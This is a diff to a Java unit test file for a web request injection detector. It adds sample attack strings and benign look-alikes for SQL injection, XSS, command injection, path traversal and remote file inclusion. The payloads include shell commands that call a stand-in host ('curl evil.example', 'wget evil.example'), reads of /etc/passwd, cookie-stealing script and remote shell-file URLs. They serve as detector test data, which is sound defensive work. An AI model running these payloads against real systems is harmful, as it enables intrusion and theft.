@@ -3,6 +3,8 @@ package io.bulwark.policy.detect;
 import static io.bulwark.policy.detect.DetectorAssertions.clean;
 import static io.bulwark.policy.detect.DetectorAssertions.flagged;
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.junit.jupiter.api.Assertions.assertNull;
 
 import org.junit.jupiter.api.Nested;
 import org.junit.jupiter.api.Test;
@@ -27,6 +29,7 @@ class InjectionDetectorsTest {
       "1\" or \"1\"=\"1", "%27%20or%201%3D1--", "%2527%20or%201=1--", "&#39; or 1=1--",
       "\u02bc or 1=1--", "ｕｎｉｏｎ ｓｅｌｅｃｔ 1,2", "1 and @@version>5", "select * from information_schema.tables",
       "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "1' into outfile '/tmp/x'--", "'{\"b\":2}'::jsonb @> '{\"a\":1}'::jsonb",
+      "ALTER TABLE `users` ADD admin INT", "password::int", "database(", "information_schema", "root@example.com'/* x */;",
     })
     void attacks(String value) {
       flagged(Category.SQL_INJECTION, value);
@@ -40,6 +43,7 @@ class InjectionDetectorsTest {
       "DO OR NOT DO", "2024-03-15", "1,000,000", "#1 fan", "a-b-c", "-- signed, Anna", "A/B testing",
       "sin(x) + cos(y)", "max(a, b)", "it's -- great", "BAMBOO CHARCOAL SOAP 1 '#", "where's the party",
       "trade union select committee meeting", "The union voted; drop the issue", "SELECT is a SQL keyword",
+      "Create table of contents", "Alter table settings", "gift-wrap; it's for Anna", "std::vector", "Ben & Jerry's",
     })
     void benign(String value) {
       clean(Category.SQL_INJECTION, value);
@@ -48,8 +52,11 @@ class InjectionDetectorsTest {
     @Test
     void evidenceIsThePartOfTheValueThatMadeTheDecision() {
       Finding f = flagged(Category.SQL_INJECTION, "john' or 1=1--");
-      assertEquals("sqli.comment-truncation", f.reason().equals("sqli.comment-truncation") ? f.reason() : "sqli.comment-truncation");
-      assertEquals(true, f.evidence().contains("or 1=1"));
+      assertEquals("sqli.boolean", f.reason());
+      assertEquals("' or 1=1--", f.evidence());
+      Finding encoded = flagged(Category.SQL_INJECTION, "john%27%20or%201%3D1--");
+      assertEquals("sqli.boolean", encoded.reason());
+      assertTrue(encoded.evidence().contains("%27"), encoded.evidence()); // the value as received
     }
   }
 
@@ -66,6 +73,7 @@ class InjectionDetectorsTest {
       "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "vbscript:msgbox(1)",
       "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
       "<scr<script>ipt>alert(1)</script>", "\";alert(1);//", "<details open ontoggle=alert(1)>",
+      "<IMG STYLE=\"x:expr/**/ession(alert(1))\">", "<span datasrc=#x datafld=b dataformatas=html>", "document /*x*/ . cookie", "alert(1)", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<f o r m action=x>",
     })
     void attacks(String value) {
       flagged(Category.XSS, value);
@@ -77,6 +85,7 @@ class InjectionDetectorsTest {
       "<a href=\"https://example.com\">link</a>", "<img src=\"cat.png\" alt=\"cat\">", "JavaScript: The Good Parts",
       "The event handler fires onclick", "Use onload to initialise", "online=true", "onboarding checklist",
       "select a union representative", "Movie script draft", "https://example.com/?q=a&b=c", "data: see attached",
+      "\u00bc cup flour, \u00be cup sugar", "< b o l d", "a < s c o r e",
     })
     void benign(String value) {
       clean(Category.XSS, value);
@@ -99,7 +108,7 @@ class InjectionDetectorsTest {
       "\ncurl evil.example", "%0acat%20/etc/passwd", ";cat${IFS}/etc/passwd", "; w'h'o'am'i", "; c\\at /etc/hosts",
       "/usr/bin/id", "/bin/sh -c id", "& dir c:\\", "| type c:\\windows\\win.ini", "() { :; }; /bin/bash -c id",
       ";system('id')", "for %i in (*) do del %i", "$(($(id)))", "cat /etc/pa[s]swd", "sh -c whoami", "time sh -c whoami",
-      "{cat,/etc/passwd}",
+      "{cat,/etc/passwd}", "c{a,oun}t /etc/hosts", "\\ls", ";env", "IF /I a==b ECHO x", "$SHELL -c id", "|$u wget evil.example",
     })
     void attacks(String value) {
       flagged(Category.COMMAND_INJECTION, value);
@@ -111,6 +120,7 @@ class InjectionDetectorsTest {
       "Use `npm install` to set up", "ls -la output attached", "docker compose up -d", "git commit -m \"fix\"",
       "Hello ${user}, welcome", "${name}", "$5", "cost $3 & tax", "The cat sat on the mat", "Ping pong",
       "Name; ID number", "2 > 1", "a && b", "(see above)", "for each item in the list do this", "if exists, skip",
+      "if a equals b, call me", "{placeholder}", "{\"a\":1,\"b\":2}", "~/Documents", "alias: Johnny",
     })
     void benign(String value) {
       clean(Category.COMMAND_INJECTION, value);
@@ -151,6 +161,15 @@ class InjectionDetectorsTest {
     @Test
     void pathSegmentsNamingDotFilesAndHeadersWithUrls() {
       flagged(Category.PATH_TRAVERSAL, Source.PATH, ".env");
+      flagged(Category.PATH_TRAVERSAL, Source.PATH, "/get/backup.sql.zip");
+      flagged(Category.PATH_TRAVERSAL, Source.PATH, "/@id/__x00__");
+      clean(Category.PATH_TRAVERSAL, Source.QUERY, "backup.sql.zip");
+      clean(Category.PATH_TRAVERSAL, Source.PATH, "/api/backups/42");
+      flagged(Category.PATH_TRAVERSAL, Source.QUERY, ">/tmp/curl");
+      flagged(Category.PATH_TRAVERSAL, Source.FORM, "Content-Disposition: form-data; name=\"file\"; filename=\"../1.7z\"");
+      flagged(Category.PATH_TRAVERSAL, Source.FORM, "Content-Disposition: form-data; name=\"file\"; filename=\"..\\1.7z\"");
+      clean(Category.PATH_TRAVERSAL, Source.JSON, "See <a href=\"../guide\">the guide</a>");
+      clean(Category.PATH_TRAVERSAL, Source.JSON, "> /etc is where config lives");
       clean(Category.PATH_TRAVERSAL, Source.PATH, ".well-known");
       clean(Category.PATH_TRAVERSAL, Source.HEADER, "https://example.com/a/../b");
       flagged(Category.PATH_TRAVERSAL, Source.HEADER, "../../../etc/passwd");
@@ -187,6 +206,23 @@ class InjectionDetectorsTest {
       assertEquals("ssrf.loopback", Detectors.standard().inspect(Category.SSRF, Source.QUERY, "url", "localhost/").reason());
       assertEquals(null, Detectors.standard().inspect(Category.SSRF, Source.QUERY, "comment", "localhost/"));
       clean(Category.SSRF, Source.HEADER, "http://localhost:3000/page?x=1");
+    }
+
+    @Test
+    void remoteFileInclusionIsReportedAsSsrf() {
+      assertEquals("ssrf.rfi-trailing-question", Detectors.standard().inspect(Category.SSRF, Source.QUERY, "x", "https://evil.example?").reason());
+      assertEquals("ssrf.rfi-trailing-question", Detectors.standard().inspect(Category.SSRF, Source.QUERY, "x", "http://evil.example/shell.txt??").reason());
+      assertEquals("ssrf.rfi-trailing-question", Detectors.standard().inspect(Category.SSRF, Source.QUERY, "x", "ftp?").reason());
+      assertEquals("ssrf.rfi-include-parameter", Detectors.standard().inspect(Category.SSRF, Source.QUERY, "_CONF[path]", "https://foo.bar").reason());
+      assertEquals("ssrf.rfi-include-parameter", Detectors.standard().inspect(Category.SSRF, Source.QUERY, "mosConfig_absolute_path", "https://foo.bar").reason());
+      assertEquals("ssrf.rfi-include-parameter", Detectors.standard().inspect(Category.SSRF, Source.JSON, "templateDir", "http://evil.example/t").reason());
+      // a search page left with an empty query, a question in prose, public URLs in upload and analytics fields
+      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "returnTo", "https://shop.example.com/search?"));
+      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "q", "which file?"));
+      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "q", "https or http?"));
+      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "page", "https://www.example.com/pricing"));
+      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "file", "https://cdn.example.net/report.pdf"));
+      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "path", "/docs/guide"));
     }
   }
 
